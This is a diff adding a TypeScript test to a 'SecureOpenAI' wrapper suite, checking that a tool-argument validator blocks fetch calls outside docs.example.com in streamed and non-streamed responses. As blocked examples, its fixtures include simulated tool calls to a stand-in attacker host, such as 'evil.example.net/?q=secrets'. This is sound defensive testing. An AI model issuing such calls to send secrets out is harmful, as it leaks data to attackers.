@@ -331,6 +331,36 @@ describe('SecureOpenAI', () => {
     expect(err.phase).toBe('tool');
   });
 
+  test('tools.validate: complete tool-call arguments are checked, streamed or not', async () => {
+    const seen: string[] = [];
+    const validate = ({ name, arguments: args }: { name: string; arguments: string }) => {
+      seen.push(`${name} ${args}`);
+      return JSON.parse(args).url?.startsWith('https://docs.example.com/') ? true : 'only docs.example.com may be fetched';
+    };
+    const c = client({ tools: { validate } });
+    fake.enqueue({ toolCalls: [{ name: 'fetch', arguments: { url: 'https://docs.example.com/a' } }] });
+    await c.chat.completions.create(user('read the docs'));
+    fake.enqueue({ toolCalls: [{ name: 'fetch', arguments: { url: 'https://evil.example.net/?q=secrets' } }] });
+    const err = await c.chat.completions.create(user('read the docs')).catch((e) => e);
+    expect(err).toBeInstanceOf(ToolPolicyError);
+    expect(err.message).toContain('only docs.example.com may be fetched');
+    expect(err.message).not.toContain('evil.example.net'); // arguments stay out of errors
+
+    fake.enqueue({ toolCalls: [{ name: 'fetch', arguments: { url: 'https://evil.example.net/x' } }], chunkSize: 2 });
+    const stream = await c.chat.completions.create({ ...user('read'), stream: true });
+    const streamErr = await (async () => {
+      for await (const _ of stream);
+    })().catch((e) => e);
+    expect(streamErr).toBeInstanceOf(ToolPolicyError);
+    expect(stream.controller.signal.aborted).toBe(true);
+    // The streamed call was validated once, with its arguments assembled from the deltas.
+    expect(seen.at(-1)).toBe('fetch {"url":"https://evil.example.net/x"}');
+
+    fake.enqueue({ toolCalls: [{ name: 'fetch', arguments: { url: 'https://evil.example.net/y' } }], chunkSize: 3 });
+    const responsesErr = await c.responses.stream({ model: 'gpt-4o-mini', input: 'read' }).finalResponse().catch((e) => e);
+    expect(responsesErr).toBeInstanceOf(ToolPolicyError);
+  });
+
   test('output: a canary under block ends the stream with OutputLeakError and aborts upstream', async () => {
     const canary = 'CANARY-7f3a9c2e';
     fake.enqueue({ text: `The hidden marker is ${canary} and more text follows for a while.`, chunkSize: 4 });
